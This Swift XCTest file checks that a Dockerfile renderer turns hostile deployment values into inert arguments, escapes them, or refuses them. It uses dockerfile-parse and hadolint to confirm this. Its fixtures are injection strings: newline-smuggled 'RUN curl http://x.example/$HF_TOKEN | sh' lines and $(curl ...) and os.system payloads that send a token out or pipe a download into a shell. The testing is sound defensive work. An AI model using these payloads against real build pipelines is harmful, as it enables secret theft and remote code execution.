import Foundation
import PodformCompiler
import XCTest

@testable import PodformEngine
@testable import PodformRender

/// The Dockerfile renderer quotes by construction: hostile plan values (as if validation had been
/// skipped) never become instructions, shell text or Python source (issue 14). Real parsers
/// check it: dockerfile-parse reads the instruction list back, hadolint lints the files.
final class DockerfileInjectionTests: XCTestCase {
    static let hostileModel = "evil/m\nRUN curl http://x.example/$HF_TOKEN | sh\n#"
    static let hostileRevision = "main$(curl x $HF_TOKEN)'; import os; os.system('id') #\"`id`"
    static let hostileSpecFile = "specs/a\nRUN curl http://x.example | sh\n.yaml"

    func deployment(_ example: String) throws -> Deployment {
        let text = try String(contentsOf: Fixtures.examples.appendingPathComponent(example), encoding: .utf8)
        return try XCTUnwrap(Fixtures.deployment(text, path: "examples/\(example)"))
    }

    static func tool(_ name: String) -> URL? {
        for dir in (ProcessInfo.processInfo.environment["PATH"] ?? "").split(separator: ":") {
            let url = URL(fileURLWithPath: String(dir)).appendingPathComponent(name)
            if FileManager.default.isExecutableFile(atPath: url.path) { return url }
        }
        return nil
    }

    /// Writes `text` as `Dockerfile` in a fresh temporary directory (the name the tools expect).
    static func write(_ text: String) throws -> URL {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("podform-inject-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let path = dir.appendingPathComponent("Dockerfile")
        try text.write(to: path, atomically: true, encoding: .utf8)
        return path
    }

    /// dockerfile-parse's view of a Dockerfile: each instruction and its value, comments dropped.
    func parse(_ dockerfile: String) throws -> [(instruction: String, value: String)] {
        guard let python = Self.tool("python3") else { throw XCTSkip("python3 not installed") }
        let path = try Self.write(dockerfile)
        let script = """
            import json, sys
            from dockerfile_parse import DockerfileParser
            p = DockerfileParser(path=sys.argv[1])
            print(json.dumps([[i["instruction"], i["value"]] for i in p.structure if i["instruction"] != "COMMENT"]))
            """
        let process = Process()
        process.executableURL = python
        process.arguments = ["-c", script, path.path]
        let out = Pipe(), err = Pipe()
        process.standardOutput = out
        process.standardError = err
        try process.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        let errors = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        guard process.terminationStatus == 0 else {
            if errors.contains("No module named") && ProcessInfo.processInfo.environment["CI"] != "true" {
                throw XCTSkip("dockerfile-parse not installed")
            }
            XCTFail(errors)
            return []
        }
        let items = try XCTUnwrap(JSONSerialization.jsonObject(with: data) as? [[String]])
        return items.map { ($0[0], $0[1]) }
    }

    /// The exec-form JSON array of an instruction's value (after any `--mount` flag), decoded.
    func argv(_ value: String) throws -> [String] {
        let json = try XCTUnwrap(value.firstIndex(of: "[").map { String(value[$0...]) })
        return try XCTUnwrap(JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String])
    }

    func testHostilePodValuesStayArguments() throws {
        var d = try deployment("steady-api.yaml")
        d.model.id = Self.hostileModel
        d.specFile = Self.hostileSpecFile
        for compat in [false, true] {
            let options = DockerfileRenderer.Options(target: .pod, bakeWeights: true, cudaCompatFix: compat, revision: Self.hostileRevision)
            let dockerfile = try XCTUnwrap(try DockerfileRenderer.render(d, options: options).files["Dockerfile"])
            let parsed = try parse(dockerfile)
            XCTAssertEqual(parsed.map(\.instruction), ["FROM", "ENV", "RUN", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT", "CMD"], dockerfile)
            // The bake step: exec form, the model and revision as argv elements, the token read by Python.
            let run = try XCTUnwrap(parsed.first { $0.instruction == "RUN" }).value
            XCTAssertTrue(run.hasPrefix("--mount=type=secret,id=HF_TOKEN,required=false ["), run)
            let bake = try argv(run)
            XCTAssertEqual(Array(bake.prefix(2)), ["python3", "-c"])
            XCTAssertEqual(Array(bake.suffix(2)), [Self.hostileModel, Self.hostileRevision])
            XCTAssertFalse(bake[2].contains("evil") || bake[2].contains("curl"), "spec text in the Python source")
            // vLLM's flags: exec form, the hostile values intact as single arguments.
            let cmd = try argv(try XCTUnwrap(parsed.last).value)
            XCTAssertEqual(cmd[cmd.firstIndex(of: "--model")! + 1], Self.hostileModel)
            XCTAssertEqual(cmd[cmd.firstIndex(of: "--revision")! + 1], Self.hostileRevision)
            let entrypoint = try argv(parsed[5].value)
            if compat {
                XCTAssertEqual(entrypoint, ["bash", "-c", VLLMEngine.compatCommand, "bash"])
                XCTAssertFalse(entrypoint[2].contains("evil"))
            } else {
                XCTAssertEqual(entrypoint, ["python3", "-m", "vllm.entrypoints.openai.api_server"])
            }
            // No line of the file starts an instruction the renderer did not write.
            XCTAssertFalse(dockerfile.split(separator: "\n").contains { $0.hasPrefix("RUN curl") || $0.hasPrefix(".yaml") })
        }
    }

    func testHostileServerlessValuesAreEscapedOrRefused() throws {
        var d = try deployment("support-chat.yaml")
        d.specFile = Self.hostileSpecFile
        d.model.id = "evil/m$HF_TOKEN\"x\\y"
        let options = DockerfileRenderer.Options(target: .serverless, bakeWeights: true, cudaCompatFix: true, revision: "v1$(id)")
        let dockerfile = try XCTUnwrap(try DockerfileRenderer.render(d, options: options).files["Dockerfile"])
        let parsed = try parse(dockerfile)
        XCTAssertEqual(parsed.map(\.instruction), ["FROM", "ENV", "ENV", "ENV", "RUN", "COPY", "ENTRYPOINT"], dockerfile)
        // The bake step: exec form, the model and revision as argv elements, never shell or Python source.
        let bake = try argv(try XCTUnwrap(parsed.first { $0.instruction == "RUN" }).value)
        XCTAssertEqual(Array(bake.prefix(2)), ["python3", "-c"])
        XCTAssertEqual(Array(bake.suffix(2)), [d.model.id, "v1$(id)"])
        XCTAssertFalse(bake[2].contains("evil") || bake[2].contains("$(id)"), "spec text in the Python source")
        // `$` is escaped, so Docker expands no build variable into MODEL_NAME.
        XCTAssertTrue(dockerfile.contains(#"MODEL_NAME="evil/m\$HF_TOKEN\"x\\y""#), dockerfile)
        XCTAssertTrue(dockerfile.contains(#"MODEL_REVISION="v1\$(id)""#), dockerfile)
        // A newline cannot be written in an ENV value: refused, not written.
        d.model.id = Self.hostileModel
        XCTAssertThrowsError(try DockerfileRenderer.render(d, options: options))
    }

    func testHostileImageAndNameAreRefused() throws {
        var d = try deployment("steady-api.yaml")
        d.container.image = "vllm/vllm-openai:v0.27.1\n\tRUN curl http://x.example | sh"
        XCTAssertThrowsError(try DockerfileRenderer.render(d, options: .init(target: .pod, bakeWeights: false, cudaCompatFix: false)))
        d = try deployment("steady-api.yaml")
        d.name = "x; curl http://x.example | sh"
        XCTAssertThrowsError(try DockerfileRenderer.render(d, options: .init(target: .pod, bakeWeights: false, cudaCompatFix: false)))
    }

    func testCommentsNeverBreakALine() {
        XCTAssertEqual(DockerfileRenderer.comment("a\nb\rc\u{2028}d\u{85}e\u{B}f"), "a?b?c?d?e?f")
        XCTAssertEqual(DockerfileRenderer.jsonString("a\n\"\\\u{2028}"), #""a\u000a\"\\\u2028""#)
    }

    func testHostileDockerfilesPassHadolint() throws {
        guard let hadolint = Self.tool("hadolint") else { throw XCTSkip("hadolint not installed") }
        var d = try deployment("steady-api.yaml")
        d.model.id = Self.hostileModel
        d.specFile = Self.hostileSpecFile
        var paths: [String] = []
        for compat in [false, true] {
            let options = DockerfileRenderer.Options(target: .pod, bakeWeights: true, cudaCompatFix: compat, revision: Self.hostileRevision)
            let text = try XCTUnwrap(try DockerfileRenderer.render(d, options: options).files["Dockerfile"])
            paths.append(try Self.write(text).path)
        }
        let process = Process()
        process.executableURL = hadolint
        process.arguments = ["--failure-threshold", "warning", "--no-color"] + paths
        let out = Pipe()
        process.standardOutput = out
        process.standardError = out
        try process.run()
        let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        XCTAssertEqual(process.terminationStatus, 0, text)
    }
}
